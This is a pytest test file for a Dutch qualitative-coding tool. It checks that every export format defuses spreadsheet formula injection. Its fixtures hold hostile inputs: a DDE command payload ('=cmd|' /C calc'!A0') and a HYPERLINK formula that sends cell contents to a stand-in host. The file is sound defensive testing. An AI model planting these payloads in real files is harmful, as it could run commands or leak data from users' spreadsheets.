"""What a spreadsheet would take for a formula is a text in every table that codeer writes, and comes back as it was.

One project has hostile words in everything that a researcher or a participant can name.
"""

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from tests.integration.hostile import attack, needs_fork, quick_tokenizer
from tests.workflow.support import make_blank

__all__ = ["quick_tokenizer"]
pytestmark = needs_fork

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "'=",
    '"=',
    "\u00a0=",
    "\u200b=",
    "|",
    "%",
)
ACTIVE = ("=", "+", "-", "@", "\t", "\r")
FORMULA = '=HYPERLINK("http://kwaad.nl?"&A1;"klik")'
CODEBOOK = """\
naam: '=1+1'
codes:
  - id: '=cmd|'' /C calc''!A0'
    naam: '+SUM(1;2)'
    definitie: '@SUM(A1)'
    trefwoorden: [vertrouwen]
    subcodes:
      - id: '-2+3'
        naam: '=HYPERLINK("http://kwaad.nl";"klik")'
        trefwoorden: [klik]
  - id: '@import'
    naam: '-1'
    trefwoorden: [alles]
"""
STUDY = """\
naam: '=1+1'
groepen:
  - naam: '=groep'
    meervoud: '+groepen'
    sprekers: ['moeder']
transcripten:
  '=trans.txt':
    sprekers:
      moeder: '=groep'
    respondent: '=cmd|x'
"""
LINES = [f"Moeder: {start}vertrouwen en klik en alles." for start in STARTS]


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The project after suggest, decisions and every export."""
    folder = tmp_path_factory.mktemp("formules") / "project"
    (folder / "codeboeken").mkdir(parents=True)
    (folder / "transcripten").mkdir()
    (folder / "codeboeken" / "proef.yaml").write_text(CODEBOOK, encoding="utf-8")
    (folder / "onderzoek.yaml").write_text(STUDY, encoding="utf-8")
    turns = "\n".join(f"I: Hoe?\n{line}" for line in LINES) + f"\nI: En?\nMoeder: {FORMULA} klik\n"
    (folder / "transcripten" / "=trans.txt").write_text(turns, encoding="utf-8")
    make_blank("nl")
    at = ["--project", str(folder)]
    steps = [
        ["suggest", *at],
        ["exporteer", str(folder / "open.csv"), "--codeur", "=Anna", *at],
    ]
    for step in steps:
        outcome = attack(*step)
        assert outcome.code == 0, outcome.said
    fill_in(folder / "open.csv", folder / "besluiten.csv")
    outcome = attack("importeer", str(folder / "besluiten.csv"), *at)
    assert outcome.code == 0, outcome.said
    for name in (
        "terug.csv",
        "terug.xlsx",
        "alles.qdpx",
        "alles.qdc",
        "alles.sps",
        "alles.jsonl",
        "p.codeer",
    ):
        more = ["--besluiten"] if name == "p.codeer" else []
        outcome = attack("exporteer", str(folder / name), *more, *at)
        assert outcome.code == 0, outcome.said
    for style in ("nl", "internationaal"):
        for kind in ("csv", "xlsx"):
            out = str(folder / f"uit-{style}-{kind}")
            outcome = attack("rapport", "--formaat", kind, "--csv-stijl", style, "--uit", out, *at)
            assert outcome.code == 0, outcome.said
    return folder


def fill_in(source: Path, target: Path) -> None:
    """Accept every suggestion, with a memo that is a formula."""
    rows = list(
        csv.reader(io.StringIO(source.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";")
    )
    heading, *rest = rows
    for row in rest:
        row[heading.index("besluit")] = "aanvaard"
        row[heading.index("memo")] = "'=1+1"
    stream = io.StringIO(newline="")
    csv.writer(stream, delimiter=";").writerows([heading, *rest])
    target.write_text(stream.getvalue(), encoding="utf-8-sig")


def tables(folder: Path) -> Iterator[tuple[str, list[list[str]]]]:
    for path in sorted(folder.rglob("*.csv")):
        if path.name != "besluiten.csv":
            text = path.read_bytes().decode("utf-8-sig")
            first = text.splitlines()[0]
            delimiter = max(";,", key=first.count)
            yield path.name, list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def is_active(cell: str) -> bool:
    """Tell whether a spreadsheet may calculate; some also with a mark in full width."""
    is_number = cell.replace(",", ".").lstrip("-").replace(".", "", 1).isdigit()
    return not is_number and cell.startswith((*ACTIVE, "＝", "＋", "－", "＠"))


def test_no_cell_of_a_csv_is_a_formula(made: Path) -> None:
    seen = 0
    for name, rows in tables(made):
        for row in rows:
            for cell in row:
                seen += 1
                assert not is_active(cell), (name, cell)
    assert seen > 500


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(made: Path) -> None:
    paths = sorted(made.rglob("*.xlsx"))
    assert paths
    for path in paths:
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, sheet.title, cell.value)
                    assert cell.hyperlink is None or cell.hyperlink.location, (
                        path.name,
                        cell.value,
                    )
        with zipfile.ZipFile(path) as package:
            assert not any(name.startswith("xl/externalLinks") for name in package.namelist())


def test_spss_syntax_keeps_every_name_within_quotes(made: Path) -> None:
    for path in made.rglob("*.sps"):
        for line in path.read_text(encoding="utf-8").splitlines():
            outside = "".join(part for part in line.replace("''", "").split("'")[::2])
            assert not any(word in outside for word in ("kwaad", "HYPERLINK", "HOST")), line


def test_decisions_come_back_as_they_were(made: Path, tmp_path: Path) -> None:
    """Quotes that defuse are put before a formula once, whatever road the words travel."""
    for name in ("terug.csv", "terug.xlsx"):
        outcome = attack("importeer", str(made / name), "--project", str(made))
        assert outcome.code == 0, outcome.said
        assert ": 0 besluiten bewaard" in outcome.out, outcome.out
    copy = tmp_path / "kopie"
    copy.mkdir()
    outcome = attack("importeer", str(made / "p.codeer"), "--project", str(copy))
    assert outcome.code == 0, outcome.said
    outcome = attack("exporteer", str(copy / "terug.csv"), "--project", str(copy))
    assert outcome.code == 0
    ours, theirs = (csv_rows(folder / "terug.csv") for folder in (made, copy))
    assert ours == theirs


def csv_rows(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_a_formula_that_is_said_is_in_the_project_for_other_programs(made: Path) -> None:
    with zipfile.ZipFile(made / "alles.qdpx") as package:
        texts = b"".join(package.read(name) for name in package.namelist() if name.endswith(".txt"))
    assert FORMULA.encode() in texts


def test_a_project_of_another_program_with_formulas(made: Path, tmp_path: Path) -> None:
    """Names of sources, codes and coders come back through REFI-QDA and are harmless again."""
    (tmp_path / "nieuw").mkdir()
    outcome = attack("importeer", str(made / "alles.qdpx"), "--project", str(tmp_path / "nieuw"))
    assert outcome.code == 0, outcome.said
    outcome = attack("rapport", "--formaat", "csv", "--project", str(tmp_path / "nieuw"))
    assert outcome.code == 0, outcome.said
    for name, rows in tables(tmp_path / "nieuw"):
        for row in rows:
            assert not any(map(is_active, row)), (name, row)
